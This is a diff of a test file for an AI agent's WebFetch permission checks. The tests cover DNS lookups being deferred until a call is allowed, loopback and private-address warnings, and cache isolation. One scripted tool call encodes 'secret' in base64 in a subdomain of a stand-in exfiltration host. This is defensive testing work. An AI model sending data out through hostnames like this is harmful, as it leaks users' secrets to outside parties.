@@ -305,21 +305,24 @@ describe("WebFetch permissions", () => {
     expect(pages.requests.length).toBe(0);
   });
 
-  test("a name that resolves to a private address asks and says so; a public one asks too unless a domain rule allows it", async () => {
+  test("permission is judged before any lookup: a name the model made up reaches no DNS server unless the call is allowed", async () => {
     kit = await createLoopKit();
-    resolverOf(kit.session, (hostname) => [{ address: hostname === "intranet.test" ? "10.0.0.5" : "93.184.216.34", family: 4 }]);
+    const resolver = resolverOf(kit.session, () => [{ address: "93.184.216.34", family: 4 }]);
+    addRules(kit.session, "deny", "WebFetch(domain:*.denied.test)");
     kit.server.push(
       turn({ content: [
-        { type: "tool_use", id: "a", name: "WebFetch", input: { url: "https://intranet.test/", prompt: "?" } },
-        { type: "tool_use", id: "b", name: "WebFetch", input: { url: "https://public.test/", prompt: "?" } },
+        { type: "tool_use", id: "a", name: "WebFetch", input: { url: "https://c2VjcmV0.exfil.test/", prompt: "?" } },
+        { type: "tool_use", id: "b", name: "WebFetch", input: { url: "https://c2VjcmV0.denied.test/", prompt: "?" } },
       ] }),
       textTurn("done"),
     );
-    const { events } = await kit.run("go");
-    const [intranet, publicHost] = results(events).map(textOf);
-    expect(intranet).toContain("intranet.test, which resolves to 10.0.0.5, a private-network address");
-    expect(publicHost).toContain("WebFetch fetches a page from public.test");
-    expect(publicHost).toContain('"WebFetch(domain:public.test)"');
+    const { events, result } = await kit.run("go");
+    const [asked, denied] = results(events).map(textOf);
+    expect(asked).toContain("WebFetch fetches a page from c2vjcmv0.exfil.test");
+    expect(asked).toContain('"WebFetch(domain:c2vjcmv0.exfil.test)"');
+    expect(denied).toContain("WebFetch(domain:*.denied.test) denies");
+    expect(result.permission_denials.map((denial) => denial.tool_use_id)).toEqual(["a", "b"]);
+    expect(resolver.calls).toEqual([]);
   });
 
   test("a domain rule answers the ask, and the fetch connects to the address that was checked even if DNS answers differently later", async () => {
@@ -378,6 +381,67 @@ describe("WebFetch permissions", () => {
     expect(outcome.text).toBe("asked and read");
     expect(asked[0]).toContain("is a loopback address");
     await session.close();
+  });
+});
+
+describe("WebFetch to a name that leads to this machine's network", () => {
+  const fixtures = join(import.meta.dir, "fixtures");
+  const tls = () => ({ key: readFileSync(join(fixtures, "pinned-test.key.pem"), "utf8"), cert: readFileSync(join(fixtures, "pinned-test.cert.pem"), "utf8") });
+
+  /** A session whose lookups of any name answer 127.0.0.1, where an https page server for pinned.test listens. */
+  async function pinnedSession(options: { interactive?: boolean } = {}): Promise<{ session: Session; lookups: string[] }> {
+    const session = await createTestSession({ cwd: kit.folder.path, ...options });
+    const lookups: string[] = [];
+    session.services.provide(webFetchNetworkService, { resolve: async (hostname) => (lookups.push(hostname), [{ address: "127.0.0.1", family: 4 }]), ca: tls().cert });
+    session.services.provide(modelService, kit.model());
+    return { session, lookups };
+  }
+
+  beforeEach(async () => {
+    await pages.close();
+    pages = startPageServer({ tls: tls() });
+    kit = await createLoopKit();
+  });
+
+  test("is asked about a second time once the lookup shows it, naming the address", async () => {
+    pages.route("/p", () => html("<p>intranet page</p>"));
+    const { session, lookups } = await pinnedSession({ interactive: true });
+    const asked: string[] = [];
+    const answers: ("yes" | "no")[] = ["yes", "no", "yes", "yes"];
+    const person: AskHandler = { interactive: true, ask: async (request) => (asked.push(request.decision.reason), answers.shift() ?? "no") };
+    const input = { url: `https://pinned.test:${pages.port}/p`, prompt: "?" };
+    const refused = await callTool(session.context, "WebFetch", input, person);
+    expect(asked).toEqual([`WebFetch fetches a page from pinned.test:${pages.port}`, `WebFetch fetches a page from pinned.test:${pages.port}, which resolves to 127.0.0.1, a loopback address (this machine)`]);
+    expect(refused.stage).toBe("permission");
+    expect(refused.text).toContain("the user said no");
+    expect(pages.requests.length).toBe(0);
+    kit.server.push(textTurn("read the intranet"));
+    const fetched = await callTool(session.context, "WebFetch", input, person);
+    expect(fetched.text).toBe("read the intranet");
+    expect(asked.length).toBe(4);
+    expect(pages.requests.length).toBe(1);
+    expect(lookups).toEqual(["pinned.test", "pinned.test"]);
+    await session.close();
+  });
+
+  test("a rule naming the host answers both checks; a page cached from it is not handed to a call that may not reach it", async () => {
+    process.env.TOOLSHED_WEBFETCH_CACHE_TTL_MS = "60000";
+    pages.route("/cached", () => html("<p>internal numbers</p>"));
+    const input = () => ({ url: `https://pinned.test:${pages.port}/cached`, prompt: "?" });
+    const first = await pinnedSession();
+    addRules(first.session, "allow", "WebFetch(domain:pinned.test)");
+    kit.server.push(textTurn("first read"));
+    expect((await callTool(first.session.context, "WebFetch", input())).text).toBe("first read");
+    // The same page, in a session that allows the whole tool but not this host by name.
+    const other = await pinnedSession();
+    addRules(other.session, "allow", "WebFetch");
+    const refused = await callTool(other.session.context, "WebFetch", input());
+    expect(refused.stage).toBe("permission");
+    expect(refused.text).toContain("resolves to 127.0.0.1, a loopback address (this machine)");
+    expect(refused.text).toContain('"WebFetch(domain:pinned.test)"');
+    expect(pages.requests.length).toBe(1);
+    expect(other.lookups).toEqual([]);
+    await Promise.all([first.session.close(), other.session.close()]);
   });
 });
 
